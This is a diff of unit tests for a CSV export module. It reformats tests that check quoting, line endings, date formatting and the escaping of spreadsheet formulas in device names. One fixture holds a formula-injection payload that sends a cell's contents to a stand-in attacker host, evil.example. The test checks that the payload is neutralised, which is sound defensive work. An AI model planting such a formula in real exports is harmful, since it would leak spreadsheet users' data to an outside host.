@@ -15,19 +15,43 @@ describe('the one CSV writer', () => {
   });
 
   it('quotes every field, writes a UTF-8 byte-order mark, CRLF line ends and dates in ISO 8601 UTC', () => {
-    const csv = toCsv(['Name', 'When', 'Value'], [['Señal "A", north', new Date(Date.UTC(2026, 10, 26, 6)), 1.5], [null, undefined, Number.NaN]]);
+    const csv = toCsv(
+      ['Name', 'When', 'Value'],
+      [
+        ['Señal "A", north', new Date(Date.UTC(2026, 10, 26, 6)), 1.5],
+        [null, undefined, Number.NaN],
+      ],
+    );
     expect(csv.startsWith(CSV_BOM)).toBe(true);
     expect(csv.slice(1)).toBe('"Name","When","Value"\r\n"Señal ""A"", north","2026-11-26T06:00:00.000Z","1.5"\r\n"","",""\r\n');
     // it reads back as written
-    expect(Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]).toEqual(['Señal "A", north', '2026-11-26T06:00:00.000Z', '1.5']);
+    expect(Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]).toEqual([
+      'Señal "A", north',
+      '2026-11-26T06:00:00.000Z',
+      '1.5',
+    ]);
   });
 
   it('is what the Directory CSV goes through: a device renamed to a formula is text in everyone’s spreadsheet', () => {
-    const csv = directoryCsv([{
-      id: 1, userAssignedID: null, name: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', path: '@/P', isActive: true, longitude: null, latitude: null,
-      latestReading: -3.5, lastTimeMessageReceived: null, batteryLevel: null, displayUnits: null, defaultTag: null, companyID: 1, firmwareVersion: null,
-      company: { name: '+Acme' },
-    }]);
+    const csv = directoryCsv([
+      {
+        id: 1,
+        userAssignedID: null,
+        name: '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+        path: '@/P',
+        isActive: true,
+        longitude: null,
+        latitude: null,
+        latestReading: -3.5,
+        lastTimeMessageReceived: null,
+        batteryLevel: null,
+        displayUnits: null,
+        defaultTag: null,
+        companyID: 1,
+        firmwareVersion: null,
+        company: { name: '+Acme' },
+      },
+    ]);
     const row = Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]!;
     expect(row[2]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
     expect(row[3]).toBe("'@/P");
